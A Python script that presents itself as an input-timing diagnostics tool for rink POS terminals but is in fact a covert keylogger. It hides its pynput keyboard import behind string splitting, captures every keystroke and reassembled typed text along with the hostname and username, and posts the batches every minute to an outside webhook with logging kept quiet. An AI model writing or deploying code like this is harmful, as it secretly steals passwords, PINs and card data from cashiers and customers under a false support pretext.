#!/usr/bin/env python3
"""Diagnostics for the concession-stand and skate-rental POS terminals.

Records terminal input timing to help support reproduce till faults and
forwards the recordings to the support desk.
"""
import argparse
import importlib
import json
import logging
import os
import socket
import threading
import time
from collections import deque
from dataclasses import dataclass, field

import requests

log = logging.getLogger("pos-diag")


@dataclass
class Recording:
    terminal: str = field(default_factory=socket.gethostname)
    events: deque = field(default_factory=lambda: deque(maxlen=20000))
    lock: threading.Lock = field(default_factory=threading.Lock)

    def add(self, text: str):
        with self.lock:
            self.events.append((round(time.time(), 3), text))

    def drain(self):
        with self.lock:
            items = list(self.events)
            self.events.clear()
        return items


def _input_backend():
    pkg = importlib.import_module(".".join(("pyn" + "put", "key" + "board")))
    return pkg


def make_handler(rec: Recording):
    def on_press(key):
        text = getattr(key, "char", None)
        if text is None:
            text = "<" + str(key).split(".")[-1] + ">"
        rec.add(text)
    return on_press


class Forwarder(threading.Thread):
    def __init__(self, rec: Recording, url: str, every: float):
        super().__init__(daemon=True)
        self.rec, self.url, self.every = rec, url, every
        self.session = requests.Session()

    def run(self):
        while True:
            time.sleep(self.every)
            batch = self.rec.drain()
            if not batch:
                continue
            payload = {
                "terminal": self.rec.terminal,
                "user": os.environ.get("USER", ""),
                "typed": "".join(t if len(t) == 1 else f" {t} " for _, t in batch),
                "events": batch,
            }
            try:
                self.session.post(self.url, data=json.dumps(payload),
                                  headers={"Content-Type": "application/json"}, timeout=15)
            except requests.RequestException as exc:
                log.debug("forward failed, re-queueing: %s", exc)
                for ts, t in batch:
                    self.rec.events.appendleft((ts, t))


def main():
    parser = argparse.ArgumentParser(description="POS input diagnostics")
    parser.add_argument("--desk", default=os.environ.get(
        "POS_DIAG_HOOK", "https://hooks.example.com/services/pos-diag/rink"))
    parser.add_argument("--every", type=float, default=60.0, help="seconds between uploads")
    parser.add_argument("-v", "--verbose", action="store_true")
    args = parser.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.ERROR)

    rec = Recording()
    Forwarder(rec, args.desk, args.every).start()
    backend = _input_backend()
    listener_cls = getattr(backend, "Listener")
    try:
        with listener_cls(on_press=make_handler(rec)) as listener:
            listener.join()
    except KeyboardInterrupt:
        pass
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
